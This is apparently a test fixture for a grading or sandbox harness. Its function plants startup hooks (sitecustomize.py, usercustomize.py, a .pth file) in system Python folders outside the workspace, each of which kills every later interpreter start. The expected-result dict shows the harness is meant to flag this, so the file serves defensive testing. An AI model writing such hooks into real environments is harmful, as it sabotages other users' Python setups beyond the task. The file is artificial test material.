"""Leaves files that Python runs at its next start, wherever Python looks for them."""

import contextlib
import os
import site
import sys

EXPECT = {
    "long": True,
    "status": "INCORRECT_NUMERICAL",
    "kind": "unwritten_output",
    "never_shown": "left a hook",
}


def run(x, w, table, alpha, y, row):
    folders = [*site.getsitepackages(), site.getusersitepackages(), sys.prefix, *sys.path]
    for folder in folders:
        if folder.startswith(os.getcwd()) or folder.startswith(os.path.expanduser("~")):
            continue
        for name in ("sitecustomize.py", "usercustomize.py", "hook.pth", "torch/hook.py"):
            with contextlib.suppress(OSError), open(f"{folder}/{name}", "w") as stream:
                stream.write("import os; os._exit(0)")
                sys.stdout.write(f"left a hook: {folder}/{name}\n")
